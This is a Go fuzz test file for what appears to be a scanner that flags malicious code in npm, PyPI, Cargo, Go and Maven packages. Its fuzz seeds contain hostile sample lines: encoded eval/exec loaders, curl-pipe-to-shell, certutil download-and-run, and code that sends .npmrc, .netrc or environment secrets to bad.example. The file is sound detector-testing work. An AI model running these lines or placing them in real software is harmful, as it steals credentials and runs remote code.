package content

import (
	"bytes"
	"testing"
	"time"
	"unicode"

	"assay.invalid/internal/archive"
	"assay.invalid/internal/assay"
)

// fuzzText feeds one language's lexer and rules, and checks what must hold of
// any text.
func fuzzText(f *testing.F, name string, l language, seeds ...string) {
	for _, seed := range seeds {
		f.Add([]byte(seed))
	}
	s := New(Limits{})
	f.Fuzz(func(t *testing.T, text []byte) {
		if len(text) > 1<<16 {
			return
		}
		at := assay.Coordinate{Ecosystem: assay.NPM, Name: "specimen", Version: "1.0.0", File: "specimen-1.0.0.tgz"}
		c := s.collector(at, false)
		started := time.Now()
		c.judge(name, l, text)
		if spent := time.Since(started); spent > 5*time.Second {
			t.Errorf("%d bytes took %v", len(text), spent)
		}
		checkSignals(t, c.signals, 1+bytes.Count(text, []byte{'\n'}))
		if d := s.dialects.of(l); d != nil {
			checkMask(t, lex(name, d, text, make([]byte, len(text))))
		}
	})
}

// checkSignals holds for all signals: known ids, lines that exist, words that
// can be shown.
func checkSignals(t *testing.T, signals []assay.Signal, lines int) {
	t.Helper()
	known := map[string]bool{}
	for _, about := range Signals() {
		known[about.ID] = true
	}
	for _, s := range signals {
		if !known[s.ID] || s.Line < 0 || s.Line > lines || s.Saw == "" || len(s.Saw) > 260 {
			t.Errorf("%+v of %d lines", s, lines)
		}
		for _, r := range s.Saw + s.File {
			if !unicode.IsPrint(r) {
				t.Errorf("%q is not printable", s.Saw+s.File)
			}
		}
	}
}

// checkMask holds for every lexer: the mask is as long as the text, has its
// lines, and differs from it only by blanks, fillers and marks of strings;
// marks and quotes are in order and inside.
func checkMask(t *testing.T, s *source) {
	t.Helper()
	for i, c := range s.code {
		if c != s.text[i] && c != ' ' && c != filler && c != '"' && c != '+' {
			t.Fatalf("byte %d of %q became %q", i, s.text, c)
		}
		if s.text[i] == '\n' && c != '\n' && c != '"' {
			t.Fatalf("line end %d of %q became %q", i, s.text, c)
		}
	}
	last := int32(0)
	for _, m := range s.marks {
		if m.at < last || m.end <= m.at || int(m.end) > len(s.text) {
			t.Fatalf("mark %v of %q", m, s.text)
		}
		last = m.end
	}
	last = 0
	for _, q := range s.quotes {
		if q.from < last || q.to < q.from || int(q.to) > len(s.text) {
			t.Fatalf("string %v of %q", q, s.text)
		}
		last = q.to
	}
}

func FuzzJavaScript(f *testing.F) {
	fuzzText(f, "a.js", javascript, "eval(atob('"+blob()+"'))", "`a${b`${c}`}d`/x/.test(y)", "const t = fs.readFileSync('.npmrc'); fetch('https://bad.example', {method: 'POST'})",
		"require('child_process').exec('curl http://bad.example | sh')", "(0,eval)?.(a", "if(x)/'/.test(y);import a from 'https'", "`${`${`${", "#!x\n/*")
}

func FuzzPython(f *testing.F) {
	fuzzText(f, "a.py", python, "import base64\nexec(base64.b64decode('"+blob()+"'))", "x = '''a'''\nfrom .a import b, c\nwith open(x, 'wb') as f:\n f.write(urlopen(y).read())\nos.system(x)",
		"# coding: rot13", "rb'''\\", "requests.post('https://bad.example', data=dict(os.environ))", "f\"{a}\";import a.b as c", "exec(urlopen(")
}

func FuzzRust(f *testing.F) {
	fuzzText(f, "a.rs", rust, "fn a<'a>(b: &'a str) { Command::new(\"sh\").arg(\"curl http://bad.example | sh\"); }", "r##\"a\"#\"##", "/* /* */ */ 'x' '\\'' b'\\n'", "ureq::get(x); set_permissions(", "std::env::vars()")
}

func FuzzGo(f *testing.F) {
	fuzzText(f, "a.go", golang, "import (\n\"net/http\"\n)\nvar a = `x`", "os.Environ(); http.Post(\"https://bad.example\")", "'\\''", "b, _ := os.ReadFile(\".netrc\")")
}

func FuzzShell(f *testing.F) {
	fuzzText(f, "a.sh", shell, "curl -o x http://bad.example/x && chmod +x x && ./x", "env | curl -d @- https://bad.example", "bash <(curl a)\\\n", "echo 'a' | base64 -d | sh", "wget http://bad.example/a'b\"c\\", "certutil -urlcache -f http://bad.example a.exe & a.exe", "curl #a\n| sh")
}

func FuzzManifest(f *testing.F) {
	for _, seed := range []string{manifest(`"install": "node -e \"eval(atob('x'))\" && sh a.sh"`), `{"scripts":{"install":"npm run install"}}`, `{"scripts":[],"os":"linux","gypfile":false}`, "[]", ""} {
		f.Add([]byte(seed))
	}
	s := New(Limits{})
	f.Fuzz(func(t *testing.T, raw []byte) {
		if len(raw) > 1<<16 {
			return
		}
		c := s.collector(assay.Coordinate{Ecosystem: assay.NPM, Name: "specimen", Version: "1.0.0"}, false)
		if !c.npm.readManifest(raw) {
			return
		}
		c.npm.gyp = raw
		c.judgeInstall()
		checkSignals(t, c.signals, 1+bytes.Count(raw, []byte{'\n'}))
	})
}

// FuzzArchive feeds whole files, of every ecosystem, within small limits.
func FuzzArchive(f *testing.F) {
	all := files{"package.json": manifest(`"install": "node a"`), "a.js": "require('https'); eval(atob('" + blob() + "'))", "x/b": elf(2)}
	for _, eco := range []assay.Ecosystem{assay.NPM, assay.PyPI, assay.Cargo, assay.Golang, assay.Maven} {
		_, b := packed(f, eco, all)
		f.Add(string(eco), b)
	}
	f.Add("npm", []byte("\x1f\x8b"))
	f.Add("pypi", []byte("PK\x05\x06"))
	s := New(Limits{Archive: archive.Limits{Packed: 1 << 20, Unpacked: 4 << 20, Entries: 100}, Text: 1 << 18, Texts: 1 << 20, Time: 5 * time.Second})
	f.Fuzz(func(t *testing.T, eco string, b []byte) {
		at := assay.Coordinate{Ecosystem: assay.Ecosystem(eco), Name: "specimen", Version: "1.0.0", File: "specimen-1.0.0.zip"}
		got, err := s.Scan(t.Context(), at, bytes.NewReader(b), int64(len(b)), &Before{"0.9.0", bytes.NewReader(b), int64(len(b))})
		if err != nil {
			t.Fatal(err)
		}
		checkSignals(t, got, 1<<20)
		for _, g := range got {
			if g.ID == NewInstallScript || g.ID == NewNetworkCall {
				t.Errorf("%v is new since the same version", g)
			}
		}
	})
}
